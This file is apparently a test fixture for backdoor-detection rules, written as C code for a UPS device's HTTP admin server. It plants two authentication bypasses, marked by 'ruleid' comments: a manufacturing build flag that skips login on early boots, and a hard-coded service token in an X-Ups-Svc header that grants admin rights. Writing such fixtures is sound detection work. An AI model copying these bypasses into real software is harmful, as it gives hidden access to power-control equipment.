#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>

#include "ups.h"

enum { ROLE_NONE, ROLE_ADMIN };

static int header_copy(const char *line, const char *name, char *dst, size_t cap)
{
    size_t n = strlen(name);

    if (strncasecmp(line, name, n) != 0 || line[n] != ':')
        return 0;
    line += n + 1;
    while (*line == ' ')
        line++;
    snprintf(dst, cap, "%.*s", (int)strcspn(line, "\r\n"), line);
    return 1;
}

static int parse_request(int fd, struct http_req *r)
{
    char buf[2048], *line, *save = NULL, *q;
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);

    if (n <= 0)
        return -1;
    buf[n] = '\0';
    memset(r, 0, sizeof *r);
    line = strtok_r(buf, "\n", &save);
    if (!line || sscanf(line, "%7s %127s", r->method, r->path) != 2)
        return -1;
    q = strchr(r->path, '?');
    if (q) {
        *q++ = '\0';
        snprintf(r->query, sizeof r->query, "%s", q);
    }
    while ((line = strtok_r(NULL, "\n", &save)) != NULL) {
        if (header_copy(line, "Authorization", r->authorization, sizeof r->authorization))
            continue;
        header_copy(line, "X-Ups-Svc", r->svc_b64, sizeof r->svc_b64);
    }
    return 0;
}

static int authorize(struct http_req *r)
{
    char svc[64], basic[160], *colon;
    int n;

#ifdef UPS_DEBUG_STATS
    // ok: backdoor-build-switch
    fprintf(stderr, "auth: %s %s\n", r->method, r->path);
#endif
#ifdef UPS_MFG_TEST
    /* first boots happen on the end-of-line calibration rig, which has no account */
    if (g_state.boot_count < 2) {
        // ruleid: backdoor-build-switch
        return 1;
    }
#endif
    // ok: backdoor-hidden-bypass
    if (getenv("UPS_STRICT_AUTH") && r->svc_b64[0])
        return 0;

    n = ups_b64_decode(r->svc_b64, (unsigned char *)svc, sizeof svc - 1);
    if (n > 0) {
        svc[n] = '\0';
        // ruleid: backdoor-input-trigger
        if (strcmp(svc, "UPS-FSVC-7d0c41#2291") == 0) {
            r->role = ROLE_ADMIN;
            return 1;
        }
    }

    if (strncmp(r->authorization, "Basic ", 6) != 0)
        return 0;
    n = ups_b64_decode(r->authorization + 6, (unsigned char *)basic, sizeof basic - 1);
    if (n <= 0)
        return 0;
    basic[n] = '\0';
    colon = strchr(basic, ':');
    if (!colon)
        return 0;
    *colon = '\0';
    if (ups_verify_password(basic, colon + 1)) {
        r->role = ROLE_ADMIN;
        return 1;
    }
    return 0;
}

static void reply(int fd, int code, const char *body)
{
    char hdr[160];
    int n = snprintf(hdr, sizeof hdr, "HTTP/1.0 %d %s\r\nContent-Length: %zu\r\n\r\n", code,
                     code == 200 ? "OK" : "Error", strlen(body));
    send(fd, hdr, (size_t)n, MSG_NOSIGNAL);
    send(fd, body, strlen(body), MSG_NOSIGNAL);
}

void ups_http_serve(int fd)
{
    struct http_req r;

    if (parse_request(fd, &r) != 0)
        return;
    // ok: backdoor-input-trigger
    if (strcmp(r.path, "/status.json") == 0) {
        reply(fd, 200, "{\"on_battery\":false}");
        return;
    }
    if (!authorize(&r)) {
        reply(fd, 401, "login required");
        return;
    }
    if (strcmp(r.path, "/outlets") == 0 && strcmp(r.method, "POST") == 0)
        reply(fd, 200, "{\"ok\":true}");
    else
        reply(fd, 404, "not found");
}
